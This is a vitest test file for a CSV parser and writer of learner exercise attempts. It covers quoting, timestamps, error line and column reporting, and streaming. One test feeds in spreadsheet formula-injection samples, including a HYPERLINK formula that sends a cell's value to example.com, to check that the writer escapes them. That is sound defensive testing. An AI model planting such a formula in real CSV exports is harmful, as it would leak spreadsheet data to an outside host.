import fs from 'node:fs';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import {
  AttemptsCsvError,
  attemptCsvLine,
  parseAttemptsCsv,
  readAttemptsFile,
} from '../../../electron/core/learner/attempts-csv.ts';
import { splitCsvLine } from '../../../electron/core/learner/csv-fields.ts';
import { toCsv } from '../../../electron/core/reports/csv.ts';
import { tempDir } from './fixtures.ts';

const HEADER = 'learner,exercise,concepts,timestamp,outcome,hints';
const parse = (text: string) => [...parseAttemptsCsv(text)];

/** The error for a file, as [line, column, message]. */
function errorOf(text: string): [number, number, string] {
  try {
    parse(text);
  } catch (error) {
    if (error instanceof AttemptsCsvError) return [error.line, error.column, error.message];
    throw error;
  }
  throw new Error('no error');
}

describe('attempts CSV', () => {
  it('reads attempts with several concepts, fractions, empty hints, quotes, CRLF and a BOM', () => {
    const rows = parse(
      `\uFEFF${HEADER}\r\n` +
        'ana,loops-1,loops;variables,2026-03-01T09:30:00Z,1,2\r\n' +
        '\r\n' +
        'ana,"fizz, buzz",loops,2026-03-01T10:35:00+01:00,0.75,\r\n' +
        '"li ""lei""",loops-1, loops ,2026-03-02,0,0\r\n',
    );
    expect(rows).toEqual([
      {
        line: 2,
        learner: 'ana',
        exercise: 'loops-1',
        concepts: ['loops', 'variables'],
        at: Date.UTC(2026, 2, 1, 9, 30),
        outcome: 1,
        hints: 2,
        revealed: false,
      },
      {
        line: 4,
        learner: 'ana',
        exercise: 'fizz, buzz',
        concepts: ['loops'],
        at: Date.UTC(2026, 2, 1, 9, 35),
        outcome: 0.75,
        hints: 0,
        revealed: false,
      },
      {
        line: 5,
        learner: 'li "lei"',
        exercise: 'loops-1',
        concepts: ['loops'],
        at: Date.UTC(2026, 2, 2),
        outcome: 0,
        hints: 0,
        revealed: false,
      },
    ]);
  });

  it('reads the optional revealed column and writes lines it reads back the same', () => {
    const a = {
      learner: 'Ada, the first',
      exercise: 'python/fizz',
      concepts: ['python/loops', 'python/variables'],
      at: Date.UTC(2026, 0, 5, 9),
      outcome: 0.5,
      hints: 1,
      revealed: true,
    };
    const [row] = parse(`${HEADER},revealed\n${attemptCsvLine(a, true)}\n`);
    expect(row).toEqual({ ...a, line: 2 });
    expect(attemptCsvLine(a)).toBe(
      '"Ada, the first",python/fizz,python/loops;python/variables,2026-01-05T09:00:00.000Z,0.5,1',
    );
  });

  it('writes text a spreadsheet would run as a formula as text, as the reports do, and reads it back as written', () => {
    const names = [
      '=HYPERLINK("http://example.com/?leak="&A1,"Ada")',
      '+1',
      '-2+3',
      '@SUM(A1:A2)',
      "'=already quoted",
      "''@twice",
      "O'Brien",
      'Ada',
    ];
    for (const learner of names) {
      const a = {
        learner,
        exercise: learner.startsWith('-') ? '-neg' : 'python/fizz',
        concepts: learner.startsWith('@') ? ['=c1', 'c2'] : ['python/loops'],
        at: Date.UTC(2026, 0, 5, 9),
        outcome: 1,
        hints: 0,
      };
      const line = attemptCsvLine(a);
      const cells = splitCsvLine(line) as string[];
      // What a spreadsheet sees: no text cell starts with a formula character.
      for (const cell of cells.slice(0, 3)) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
      // The learner cell is the one the reports' CSV writes for the same text.
      if (!learner.startsWith("'")) {
        const report = toCsv(['learner'], [[learner]])
          .replace(/^\uFEFF/, '')
          .split('\r\n')[1]!;
        expect(cells[0]).toBe((splitCsvLine(report) as string[])[0]);
      }
      const [row] = parse(`${HEADER}\n${line}\n`);
      expect(row).toEqual({ ...a, revealed: false, line: 2 });
    }
  });

  it('takes 29 February in a leap year', () => {
    expect(parse(`${HEADER}\nana,e1,c1,2028-02-29,1,0\n`)[0]?.at).toBe(Date.UTC(2028, 1, 29));
  });

  it.each([
    ['learner,exercise,topics,timestamp,outcome,hints\n', 1, 3, 'the header has "topics" here'],
    ['learner,exercise,concepts\n', 1, 4, 'the header is missing'],
    [`${HEADER}\nana,e1,c1,2026-03-01T09:30:00Z,1\n`, 2, 6, 'expected 6 fields, found 5'],
    [`${HEADER}\nana,e1,c1,2026-03-01T09:30:00Z,1,0,1\n`, 2, 7, 'expected 6 fields, found 7'],
    [`${HEADER}\n,e1,c1,2026-03-01T09:30:00Z,1,0\n`, 2, 1, 'the learner is empty'],
    [`${HEADER}\nana,,c1,2026-03-01T09:30:00Z,1,0\n`, 2, 2, 'the exercise is empty'],
    [`${HEADER}\nana,e1, ; ,2026-03-01T09:30:00Z,1,0\n`, 2, 3, 'name at least one concept'],
    [`${HEADER}\nana,e1,c1,01/03/2026,1,0\n`, 2, 4, '"01/03/2026" is not an ISO-8601 timestamp'],
    [`${HEADER}\nana,e1,c1,2026-02-30T09:00:00Z,1,0\n`, 2, 4, 'is not an ISO-8601 timestamp'],
    [`${HEADER}\nana,e1,c1,2026-02-29,1,0\n`, 2, 4, 'is not an ISO-8601 timestamp'],
    [`${HEADER}\nana,e1,c1,2026-03-01T09:30:00Z,1.5,0\n`, 2, 5, '"1.5" is not an outcome'],
    [`${HEADER}\nana,e1,c1,2026-03-01T09:30:00Z,pass,0\n`, 2, 5, '"pass" is not an outcome'],
    [`${HEADER}\nana,e1,c1,2026-03-01T09:30:00Z,1,-1\n`, 2, 6, '"-1" is not a count of hints'],
    [`${HEADER}\nana,e1,c1,2026-03-01T09:30:00Z,1,two\n`, 2, 6, '"two" is not a count of hints'],
    [`${HEADER},revealed\nana,e1,c1,2026-03-01T09:30:00Z,1,0,yes\n`, 2, 7, '"yes" is not 1 or 0'],
    [`${HEADER}\nana,"e1,c1,2026-03-01T09:30:00Z,1,0\n`, 2, 2, 'a quote is not closed'],
    [
      `${HEADER}\nana,e1,c1,2026-03-01T10:00:00Z,1,0\nbo,e1,c1,2026-03-01T08:00:00Z,1,0\nana,e2,c1,2026-03-01T09:59:59Z,0,0\n`,
      4,
      4,
      "earlier than this learner's previous attempt",
    ],
    ['', 1, 1, 'the file is empty'],
  ])('names the line and column of a bad row: %j', (text, line, column, message) => {
    const [l, c, m] = errorOf(text);
    expect([l, c]).toEqual([line, column]);
    expect(m).toMatch(new RegExp(`^line ${line}, column ${column} \\(\\w+\\): `));
    expect(m).toContain(message);
  });

  it('streams a file in chunks and counts lines across them to name a bad row', async () => {
    const file = path.join(tempDir('lantern-csv-'), 'attempts.csv');
    const good = Array.from(
      { length: 5000 },
      (_, i) => `learner-${i % 7},exercise-${i % 40},concept-${i % 5},2026-03-01T09:30:00Z,${i % 2},`,
    );
    fs.writeFileSync(file, `${HEADER}\n${good.join('\n')}\nana,e1,c1,2026-03-01T09:30:00Z,1,x\n`);
    let seen = 0;
    await expect(readAttemptsFile(file, () => seen++)).rejects.toThrow(
      'line 5002, column 6 (hints): "x" is not a count of hints',
    );
    expect(seen).toBe(5000);
    fs.writeFileSync(file, `${HEADER}\n${good.join('\n')}`);
    expect(await readAttemptsFile(file, () => {})).toBe(5000);
  });
});
